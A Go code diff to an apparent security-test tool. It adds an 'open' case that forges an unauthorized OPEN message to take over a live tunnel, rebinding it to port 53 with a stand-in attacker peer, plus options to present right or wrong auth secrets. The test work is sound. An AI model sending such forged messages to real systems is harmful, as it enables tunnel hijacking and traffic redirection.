@@ -13,6 +13,13 @@ package main
 //	                    envelopes each within the envelope limit
 //	unary               the unary RPCs ListProcesses and GetProcessDiagnostics
 //	                    (protoactor's server panics on them: "implement me")
+//	open                an OPEN of instance --open-name to a host's control
+//	                    actor, from a sender that is not the instance's
+//	                    daemon: a take-over of a live tunnel (issue 12)
+//
+// With --secret-file it presents that secret as a daemon's processes do
+// (actors/remote/auth.go); without, a server that requires one ends the
+// stream with Unauthenticated and the report says "refused: Unauthenticated".
 //
 // Like the real peer it first sends ConnectRequest{ServerConnection} and
 // waits for the ConnectResponse; then it sends the case as one MessageBatch,
@@ -41,10 +48,12 @@ import (
 
 	protoactor "github.com/asynkron/protoactor-go/actor"
 	protoremote "github.com/asynkron/protoactor-go/remote"
+	"github.com/vmihailenco/msgpack/v5"
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/codes"
 	"google.golang.org/grpc/credentials"
 	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/metadata"
 	"google.golang.org/grpc/status"
 	"google.golang.org/protobuf/proto"
 
@@ -66,8 +75,11 @@ const (
 	hostileUnknownType = "switchyard.hostile.NoSuchType"
 )
 
+// hostileOpenName is the instance the open case re-opens (--open-name).
+var hostileOpenName = "peer"
+
 // hostileCases are the cases, in the order of the usage text.
-var hostileCases = []string{"unknown-type", "garbage-msgpack", "oversized-envelope", "oversized-grpc", "unary"}
+var hostileCases = []string{"unknown-type", "garbage-msgpack", "oversized-envelope", "oversized-grpc", "unary", "open"}
 
 // errConnect marks a failure to reach the server at all (exit code 1).
 var errConnect = errors.New("connect")
@@ -82,6 +94,9 @@ func runHostile(args []string) int {
 	cert := fs.String("tls-cert", "", "PEM file of a client certificate (mutual TLS)")
 	key := fs.String("tls-key", "", "PEM file of the client certificate's key")
 	timeout := fs.Duration("timeout", hostileTimeout, "give up after this long")
+	secretFile := fs.String("secret-file", "", "present the secret in this file, as the daemon's processes do")
+	secretText := fs.String("secret", "", "present this secret (a wrong one, say)")
+	openName := fs.String("open-name", "peer", "the instance the open case re-opens")
 	if err := fs.Parse(args); err != nil {
 		return 2
 	}
@@ -107,7 +122,24 @@ func runHostile(args []string) int {
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), *timeout)
 	defer cancel()
-	rep, err := hostile(ctx, *addr, *which, &protoactor.PID{Address: *pidAddr, Id: *target}, creds)
+	secret := *secretText
+	if *secretFile != "" {
+		b, err := os.ReadFile(*secretFile)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "switchyard-lab hostile: %v\n", err)
+			return 2
+		}
+		secret = strings.TrimSpace(string(b))
+	}
+	if secret != "" {
+		ctx = metadata.AppendToOutgoingContext(ctx, remote.SecretMetadataKey, secret)
+	}
+	tgt := &protoactor.PID{Address: *pidAddr, Id: *target}
+	if *which == "open" {
+		tgt.Id = remote.HostActorID
+		hostileOpenName = *openName
+	}
+	rep, err := hostile(ctx, *addr, *which, tgt, creds)
 	if err != nil {
 		fmt.Fprintf(os.Stderr, "switchyard-lab hostile %s: %v\n", *which, err)
 		return 1
@@ -184,6 +216,10 @@ func hostile(ctx context.Context, addr, which string, target *protoactor.PID, cr
 		return rep, fmt.Errorf("%w: send ConnectRequest: %v", errConnect, err)
 	}
 	resp, err := stream.Recv()
+	if status.Code(err) == codes.Unauthenticated {
+		rep.Outcome = "refused: Unauthenticated: " + status.Convert(err).Message()
+		return rep, nil
+	}
 	if err != nil {
 		return rep, fmt.Errorf("%w: no ConnectResponse: %v", errConnect, err)
 	}
@@ -286,12 +322,33 @@ func hostileBatch(which string, target *protoactor.PID) (*protoremote.MessageBat
 				return nil, err
 			}
 		}
+	case "open":
+		// A udp instance under the live one's name, bound to port 53, its
+		// peer the attacker: what a take-over would look like.
+		typeName = envelopeType
+		o, err := msgpack.Marshal(remote.Open{Name: hostileOpenName, Type: "udp",
+			Settings: []byte("listen: 0.0.0.0:53\npeer: 192.0.2.66:53\n"), SettingsPath: "protocols[0].settings",
+			MaxBatch: 128, Capacity: 64, Policy: "drop_newest", Window: 32, MaxRestarts: 3})
+		if err != nil {
+			return nil, err
+		}
+		b, err := proto.Marshal(&wire.Envelope{Kind: wire.Kind_OPEN, Payload: o})
+		if err != nil {
+			return nil, err
+		}
+		datas = [][]byte{b}
 	default:
 		return nil, fmt.Errorf("unknown case %q", which)
 	}
 	mb := &protoremote.MessageBatch{TypeNames: []string{typeName}, Targets: []*protoactor.PID{target}}
+	sender := int32(0)
+	if which == "open" {
+		// The host answers an OPEN to its sender; this one is nobody.
+		mb.Senders = []*protoactor.PID{{Address: "192.0.2.66:9", Id: "hostile"}}
+		sender = 1
+	}
 	for _, d := range datas {
-		mb.Envelopes = append(mb.Envelopes, &protoremote.MessageEnvelope{TypeId: 0, MessageData: d, Target: 0, Sender: 0})
+		mb.Envelopes = append(mb.Envelopes, &protoremote.MessageEnvelope{TypeId: 0, MessageData: d, Target: 0, Sender: sender})
 	}
 	return mb, nil
 }
